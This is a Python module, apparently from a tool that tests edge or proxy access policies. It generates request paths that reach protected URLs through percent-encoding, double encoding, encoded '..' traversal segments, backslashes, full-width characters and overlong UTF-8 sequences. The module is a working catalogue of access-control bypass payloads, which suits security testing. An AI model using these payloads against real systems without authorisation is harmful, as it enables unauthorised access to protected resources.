"""Spellings of a protected path in other characters, without a token: somebody behind the edge decodes, folds or turns them."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

from policies.edge.answers import Request
from policies.edge.attack import attack
from policies.edge.attacks.paths import climb, letters_of, targets, ways_in
from policies.edge.viewer import Visit

Made = Iterator[tuple[str, Request]]


@attack("a letter", "a slash", "a dot segment", "every letter", "a bypass")
def encoded(visit: Visit) -> Made:
    """Percent signs (RFC 3986, 2.1)."""
    for target in targets(visit):
        letters = letters_of(visit.prefix)
        for count in range(4):
            at = letters[(visit.position + count) % len(letters)]
            code = f"%{ord(target[at]):02x}"
            yield "a letter", visit.request(uri=target[:at] + (code if count % 2 else code.upper()) + target[at + 1 :])
        yield (
            "every letter",
            visit.request(uri="/" + "".join(f"%{ord(letter):02X}" if letter != "/" else "/" for letter in target[1:])),
        )
        yield "a slash", visit.request(uri=f"/{target[1:].replace('/', '%2f')}")
        yield "a slash", visit.request(uri=f"/{target[1:].replace('/', '%2F')}")
        yield "a slash", visit.request(uri=f"/%2f{target[1:]}")
        for way in ways_in(visit):
            for dots in ("%2e%2e", ".%2e", "%2E."):
                yield (
                    "a dot segment",
                    visit.request(uri=f"{way}{f'/{dots}' * climb(way)}{target}" if way else f"/{dots}{target}"),
                )
            yield (
                "a bypass",
                visit.request(
                    uri=f"{way}{'%2f..' * climb(way)}{quote(target, safe='')}" if way else f"/x/%2e%2e{target}"
                ),
            )


@attack("a letter", "a slash", "a dot segment")
def encoded_twice(visit: Visit) -> Made:
    """Percent signs whose percent signs are written so."""
    for target in targets(visit):
        at = letters_of(visit.prefix)[visit.position % len(letters_of(visit.prefix))]
        yield "a letter", visit.request(uri=f"{target[:at]}%25{ord(target[at]):02x}{target[at + 1 :]}")
        yield "a letter", visit.request(uri=f"{target[:at]}%2525{ord(target[at]):02x}{target[at + 1 :]}")
        yield "a slash", visit.request(uri=f"/{target[1:].replace('/', '%252f')}")
        yield "a slash", visit.request(uri=f"/{target[1:].replace('/', '%252F', 1)}")
        for way in ways_in(visit):
            yield "a dot segment", visit.request(uri=f"{way}{'/%252e%252e' * max(1, climb(way))}{target}")


@attack("instead of slashes", "after a slash", "up from a bypass", "encoded")
def backslashes(visit: Visit) -> Made:
    """What some read as slashes."""
    for target in targets(visit):
        yield "instead of slashes", visit.request(uri=target.replace("/", "\\"))
        yield "instead of slashes", visit.request(uri=f"/{target[1:].replace('/', chr(92))}")
        yield "after a slash", visit.request(uri=f"/\\{target[1:]}")
        yield "encoded", visit.request(uri=f"/{target[1:].replace('/', '%5c')}")
        for way in ways_in(visit):
            yield (
                "up from a bypass",
                visit.request(
                    uri=f"{way}{chr(92)}..{'/..' * max(0, climb(way) - 1)}{target}" if way else f"/x\\..{target}"
                ),
            )


@attack("full width", "overlong", "compatible letters", "four digits")
def other_letters(visit: Visit) -> Made:
    """Characters that somebody folds to plain ones."""
    for target in targets(visit):
        at = letters_of(visit.prefix)[visit.position % len(letters_of(visit.prefix))]
        wide = chr(ord(target[at]) + 0xFEE0)
        yield "full width", visit.request(uri=target[:at] + wide + target[at + 1 :])
        yield "full width", visit.request(uri=target[:at] + quote(wide) + target[at + 1 :])
        yield "full width", visit.request(uri=f"/{target[1:].replace('/', chr(0xFF0F))}")
        yield "full width", visit.request(uri=f"/x/\uff0e\uff0e{target}")
        yield "overlong", visit.request(uri=f"/{target[1:].replace('/', '%c0%af')}")
        yield "overlong", visit.request(uri=f"/x/%c0%ae%c0%ae{target}")
        yield "overlong", visit.request(uri=f"/x/%e0%80%ae%e0%80%ae{target}")
        yield (
            "compatible letters",
            visit.request(
                uri=target[:at] + {"s": "\u017f", "i": "\u2071", "a": "\u00aa"}.get(target[at], wide) + target[at + 1 :]
            ),
        )
        yield "four digits", visit.request(uri=f"{target[:at]}%u00{ord(target[at]):02x}{target[at + 1 :]}")
